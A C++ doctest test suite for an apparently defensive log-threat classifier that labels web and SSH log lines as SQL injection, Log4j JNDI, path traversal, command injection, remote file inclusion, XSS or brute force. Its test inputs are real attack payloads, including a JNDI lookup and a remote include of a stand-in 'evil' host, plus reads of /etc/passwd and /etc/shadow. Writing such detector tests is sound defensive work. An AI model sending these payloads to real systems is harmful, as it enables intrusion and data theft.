#include <doctest.h>

#include <set>

#include "opensoc/signatures.hpp"

using namespace opensoc;

namespace {
const std::string kCaseLine =
    R"(91.108.4.20 - - [16/Mar/2025:01:05:33] "GET /profile?id=1 OR 1=1-- HTTP/1.1" 403 12466 "-" "burpsuite")";

ThreatAnalysis classify(const std::string& line) { return classify_entry(parse_line(line), builtin_rule_table()); }

std::string access(const std::string& target, const std::string& ua = "Mozilla/5.0",
                   const std::string& method = "GET", int status = 200) {
    return "10.1.2.3 - - [16/Mar/2025:10:00:00 +0000] \"" + method + " " + target + " HTTP/1.1\" " +
           std::to_string(status) + " 512 \"-\" \"" + ua + "\"";
}

const SignatureRule& rule_for(ThreatCategory c) {
    for (const auto& r : builtin_rule_table().rules())
        if (r.category == c) return r;
    throw std::runtime_error("no rule");
}
}  // namespace

TEST_CASE("case-study entry") {
    const auto a = classify(kCaseLine);
    CHECK(a.threat.category == ThreatCategory::SqlInjection);
    CHECK(a.threat.subtype == "Union");
    CHECK(a.mitre == MitreTechniqueId(1190));
    CHECK(a.severity == Severity::High);
    CHECK(a.risk_score == 85);
    CHECK(a.evidence == "OR 1=1-- pattern in GET parameter; user-agent 'burpsuite'");
    CHECK(a.recommendation == "Implement parameterized queries; block scanner UAs at WAF");
}

TEST_CASE("category examples") {
    CHECK(classify(access("/", "${jndi:ldap://evil/x}")).threat.category == ThreatCategory::Log4jJndi);
    CHECK(classify(access("/", "${jndi:ldap://evil/x}")).severity == Severity::Critical);
    CHECK(classify(access("/download?file=../../etc/passwd")).threat.category ==
          ThreatCategory::PathTraversal);
    CHECK(classify(access("/files?name=%2e%2e%2fconfig")).threat.category == ThreatCategory::PathTraversal);
    CHECK(classify(access("/search?q=<script>alert(1)</script>")).threat.category == ThreatCategory::Xss);
    CHECK(classify(access("/ping?host=8.8.8.8;cat /etc/shadow")).threat.category ==
          ThreatCategory::CommandInjection);
    CHECK(classify(access("/index.php?page=http://evil.example/shell.txt")).threat.category ==
          ThreatCategory::RemoteFileInclusion);
    CHECK(classify(access("/admin", "nikto/2.5.0")).threat.category == ThreatCategory::Scanner);
    CHECK(classify(access("/login", "Mozilla/5.0", "POST", 401)).threat.category ==
          ThreatCategory::BruteForce);
    CHECK(classify(access("/login", "Mozilla/5.0", "POST", 200)).threat.category == ThreatCategory::Benign);
    CHECK(classify("Mar 16 03:12:01 web01 sshd[88]: Failed password for root from 198.51.100.7 port 2222 ssh2")
              .threat.category == ThreatCategory::BruteForce);
    CHECK(classify("Mar 16 03:12:01 web01 sshd[88]: Accepted password for root from 198.51.100.7 port 2222 ssh2")
              .threat.category == ThreatCategory::SuspiciousAuth);
    CHECK(classify(access("/products?id=5 UNION SELECT username,password FROM users")).threat.category ==
          ThreatCategory::SqlInjection);
    auto timed = classify(access("/item?id=1 AND SLEEP(5)"));
    CHECK(timed.threat.category == ThreatCategory::SqlInjection);
    CHECK(timed.threat.subtype == "Time-Based");
}

TEST_CASE("benign traffic") {
    const auto a = classify(access("/", "Mozilla/5.0 (X11; Linux x86_64)"));
    CHECK(a.threat.category == ThreatCategory::Benign);
    CHECK(a.risk_score == 0);
    CHECK(a.severity == Severity::Low);
    CHECK_FALSE(a.mitre.has_value());
    CHECK_NOTHROW(a.validate());
}

TEST_CASE("priority soundness") {
    CHECK(classify(access("/../../x?q=${jndi:ldap://e/a}")).threat.category == ThreatCategory::Log4jJndi);
    // A scanner UA never outranks a payload.
    CHECK(classify(access("/search?q=<script>", "sqlmap/1.7")).threat.category == ThreatCategory::Xss);
}

TEST_CASE("default table shape") {
    std::set<ThreatCategory> cats;
    for (const auto& r : builtin_rule_table().rules()) cats.insert(r.category);
    cats.erase(ThreatCategory::Benign);
    CHECK(cats.size() >= 9);
    CHECK(rule_for(ThreatCategory::SqlInjection).mitre == MitreTechniqueId(1190));
    CHECK(rule_for(ThreatCategory::Scanner).mitre == MitreTechniqueId(1595));
    CHECK(rule_for(ThreatCategory::BruteForce).mitre == MitreTechniqueId(1110));
    CHECK(rule_for(ThreatCategory::SuspiciousAuth).mitre == MitreTechniqueId(1078));
    for (const auto& r : builtin_rule_table().rules())
        CHECK(severity_band(r.severity).contains(r.base_risk));
    // Priority order is non-decreasing along the table.
    int last = -1;
    for (const auto& r : builtin_rule_table().rules()) {
        CHECK(category_priority(r.category) >= last);
        last = category_priority(r.category);
    }
}

TEST_CASE("risk scoring") {
    const auto& sqli = rule_for(ThreatCategory::SqlInjection);
    SignatureRule r = sqli;
    r.base_risk = 80;
    r.severity = Severity::High;
    CHECK(score_risk(r, 1) == 80);
    CHECK(score_risk(r, 2) == 85);
    CHECK(score_risk(r, 10) == 89);
    CHECK_THROWS_AS(score_risk(r, 0), InvalidValue);
}

TEST_CASE("rule files round trip") {
    const auto json = rule_table_to_json(builtin_rule_table());
    const auto back = rule_table_from_json(json);
    CHECK(rule_table_to_json(back) == json);
    CHECK(classify_entry(parse_line(kCaseLine), back) == classify(kCaseLine));

    CHECK_THROWS_AS(rule_table_from_json("{"), InvalidValue);
    CHECK_THROWS_AS(rule_table_from_json(R"({"rules":[{"category":"Nope","patterns":[]}]})"), InvalidValue);
    CHECK_THROWS_AS(
        rule_table_from_json(
            R"({"rules":[{"category":"Xss","mitre":"T1190","severity":"MEDIUM","base_risk":55,"patterns":[{"regex":"(","targets":["request"]}]}]})"),
        InvalidValue);
}

TEST_CASE("custom rule table") {
    const auto table = rule_table_from_json(R"({"rules":[
        {"category":"Xss","mitre":"T1059.007","severity":"HIGH","base_risk":70,
         "patterns":[{"regex":"alert\\(","targets":["request"]}]}]})");
    const auto a = classify_entry(parse_line(access("/q?x=alert(1)")), table);
    CHECK(a.threat.category == ThreatCategory::Xss);
    CHECK(a.mitre == MitreTechniqueId(1059, 7));
    CHECK(a.risk_score == 70);
    // The default table's SQLi patterns are absent here.
    CHECK(classify_entry(parse_line(kCaseLine), table).threat.category == ThreatCategory::Benign);
}
